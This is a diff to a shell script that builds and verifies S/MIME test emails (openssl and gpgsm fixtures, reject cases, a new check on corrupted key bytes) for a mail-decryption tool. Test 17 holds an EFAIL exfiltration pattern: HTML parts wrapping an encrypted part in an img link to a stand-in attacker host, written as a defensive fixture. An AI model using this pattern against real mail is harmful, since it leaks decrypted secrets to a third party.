@@ -284,7 +284,7 @@ encrypt "$T/14.txt" "$T/14.p7m" -aes-256-cbc -recip "$SUPPORT"
 } >"$T/14.mime"
 mail 14-octet-stream-p7m.eml 14 "$CUSTOMER" "$TO_SUPPORT" "Test 14: octet-stream" "$T/14.mime"
 ok 14-octet-stream-p7m.eml ok-aes256 "Secret text 14: octet-stream p7m" AES-256-CBC no none - "Test 14: octet-stream" \
-  "Outlook style: application/octet-stream; name=smime.p7m (RFC 8551 section 3.2.2)"
+  "Outlook style: application/octet-stream; name=smime.p7m, recognised by the .p7m file name"
 
 # multipart_mixed OUT BOUNDARY PART_FILE...: a multipart/mixed entity of the given part entities.
 multipart_mixed() {
@@ -316,7 +316,7 @@ ok 15-only-part-of-mixed.eml ok-aes256 "Secret text 15: only part of multipart/m
 encrypt "$T/16.txt" "$T/16.p7m" -aes-256-cbc -recip "$SUPPORT"
 mail 16-protected-headers.eml 16 "$CUSTOMER" "$TO_SUPPORT" "[...]" "$T/16.p7m"
 ok 16-protected-headers.eml ok-aes256 "Secret text 16: protected headers" AES-256-CBC no none - "The real subject" \
-  "header protection (RFC 9788): inner entity has hp=\"cipher\", Subject: The real subject and HP-Outer fields; the outer Subject is [...]"
+  "header protection (RFC 9788): the inner entity has Content-Type parameter hp=cipher, Subject: The real subject and HP-Outer fields; the outer Subject is [...]"
 
 # 17: EFAIL direct exfiltration pattern around an enveloped part.
 printf 'Content-Type: text/html; charset=utf-8\r\n\r\n<img src="http://efail.attacker.test/\r\n' >"$T/17.html1"
@@ -326,7 +326,7 @@ encrypt "$T/17.txt" "$T/17.p7m" -aes-256-cbc -recip "$SUPPORT"
 multipart_mixed "$T/17.mime" "=_casecrypt_17" "$T/17.html1" "$T/17.p7m" "$T/17.html2"
 mail 17-efail-mixed.eml 17 "$CUSTOMER" "$TO_SUPPORT" "Test 17: EFAIL pattern" "$T/17.mime"
 ok 17-efail-mixed.eml ok-aes256 "Secret text 17: EFAIL" AES-256-CBC no none - "Test 17: EFAIL pattern" \
-  "EFAIL: multipart/mixed of text/html '<img src=\"http://efail.attacker.test/', the enveloped part, text/html '\">': decrypt only that part in isolation, never join it to the HTML around it, do not mark the plain parts as encrypted"
+  "EFAIL: multipart/mixed of a text/html part opening an img src attribute to http://efail.attacker.test/, the enveloped part, a text/html part closing it: decrypt only that part in isolation, never join it to the HTML around it, do not mark the plain parts as encrypted"
 
 # ---------------------------------------------------------------------------------------------
 # Rejects.
@@ -423,7 +423,7 @@ ok 31-recipient-by-ski.eml ok-aes256 "Secret text 31: recipient by SKI" AES-256-
 simple 32-ec-sha256-kdf.eml 32 "Test 32: EC SHA-256 KDF" "Secret text 32: ECDH SHA-256 KDF" -aes-128-cbc \
   -recip "$SUPPORT_EC" -keyopt ecdh_kdf_md:sha256
 ok 32-ec-sha256-kdf.eml ok-ec-p256 "Secret text 32: ECDH SHA-256 KDF" AES-128-CBC no none - "Test 32: EC SHA-256 KDF" \
-  "EC P-256 recipient with dhSinglePass-stdDH-sha256kdf-scheme (RFC 8418/5753 style), AES-128-CBC"
+  "EC P-256 recipient with dhSinglePass-stdDH-sha256kdf-scheme (RFC 5753), AES-128-CBC"
 simple 33-lf-line-ends.eml 33 "Test 33: LF line ends" "Secret text 33: LF line ends" -aes-256-cbc -recip "$SUPPORT"
 tr -d '\r' <"$M/33-lf-line-ends.eml" >"$T/33.lf" && mv -- "$T/33.lf" "$M/33-lf-line-ends.eml"
 ok 33-lf-line-ends.eml ok-aes256 "Secret text 33: LF line ends" AES-256-CBC no none - "Test 33: LF line ends" \
@@ -481,7 +481,7 @@ ok 39-folded-content-type.eml ok-aes256 "Secret text 39: folded header" AES-256-
 # ---------------------------------------------------------------------------------------------
 # gpgsm (GnuPG 2.2): a second CMS implementation, BER with indefinite lengths.
 # ---------------------------------------------------------------------------------------------
-mkdir -p -m 700 -- "$gnupg_home"
+mkdir -p -- "$gnupg_home"
 chmod 700 -- "$gnupg_home"
 export GNUPGHOME=$gnupg_home
 echo allow-loopback-pinentry >"$GNUPGHOME/gpg-agent.conf"
@@ -576,9 +576,10 @@ declare -A sn=([aes-128-cbc]=AES-128-CBC [aes-256-cbc]=AES-256-CBC [aes-256-gcm]
 # id_files P12_NAME: $C/P12_NAME.crt and .key, taken from the p12 with its password file.
 id_files() {
   [[ -f $C/$1.crt ]] && return
-  openssl pkcs12 -in "$S/$1.p12" -passin "file:$S/$1.pass" -nokeys -clcerts -out "$C/$1.crt" 2>/dev/null &&
-    openssl pkcs12 -in "$S/$1.p12" -passin "file:$S/$1.pass" -nocerts -nodes -out "$C/$1.key" 2>/dev/null ||
+  if ! openssl pkcs12 -in "$S/$1.p12" -passin "file:$S/$1.pass" -nokeys -clcerts -out "$C/$1.crt" 2>/dev/null ||
+    ! openssl pkcs12 -in "$S/$1.p12" -passin "file:$S/$1.pass" -nocerts -nodes -out "$C/$1.key" 2>/dev/null; then
     fail "cannot open server/$1.p12"
+  fi
 }
 # verify_entity FILE FORM NEXT: verifies the signed entity FILE (FORM: SMIME for a MIME entity,
 # DER for a bare signed-data), writes its content to NEXT and sets sig (valid, untrusted,
@@ -754,12 +755,23 @@ has 08 'smime-type=signed-data' "$(header "$C/layer.0" Content-Type)"
 # 19-21, 28: the undamaged counterparts decrypt (so the damage is what makes them fail).
 [[ $(entity_body "$T/19.p7m" | wc -l) -gt $(entity_body "$T/19.cut" | wc -l) ]] || fail "19: not shorter"
 for n in 19 20 21 28; do
-  openssl cms -decrypt -in "$T/$n.p7m" -recip "$C/ok-aes256.crt" -inkey "$C/ok-aes256.key" -out "$C/undamaged" 2>/dev/null &&
-    grep -qF "Secret text $n" "$C/undamaged" || fail "$n: the undamaged original does not decrypt"
+  if ! openssl cms -decrypt -in "$T/$n.p7m" -recip "$C/ok-aes256.crt" -inkey "$C/ok-aes256.key" -out "$C/undamaged" 2>/dev/null ||
+    ! grep -qF "Secret text $n" "$C/undamaged"; then
+    fail "$n: the undamaged original does not decrypt"
+  fi
 done
 smime_der "$M/20-corrupt-base64.eml" "$C/20.der" || fail "20: no S/MIME part"
 openssl asn1parse -inform DER -in "$C/20.der" >/dev/null 2>&1 ||
   fail "20: the corrupt DER no longer parses (it should be corrupt, not truncated)"
+# ... and the changed bytes are all inside the RSA encryptedKey (an OCTET STRING of 256 bytes).
+p7m_der "$T/20.p7m" "$C/20.orig.der"
+read -r ek_off ek_hl < <(openssl asn1parse -inform DER -in "$C/20.orig.der" |
+  sed -nE 's/^ *([0-9]+):d=5 +hl= *([0-9]+) +l= *256 +prim: +OCTET STRING.*/\1 \2/p') || fail "20: no encryptedKey"
+changed=$(cmp -l "$C/20.orig.der" "$C/20.der" | awk '{ print $1 - 1 }' || true)
+[[ -n $changed ]] || fail "20: nothing changed"
+for o in $changed; do
+  ((o >= ek_off + ek_hl && o < ek_off + ek_hl + 256)) || fail "20: byte $o changed, outside the encryptedKey"
+done
 # No stray files: every file in smime/ is in the table.
 expected=$(tail -n +2 "$tsv" | cut -f1 | sort -u)
 actual=$(cd "$out" && find smime -type f | sort)
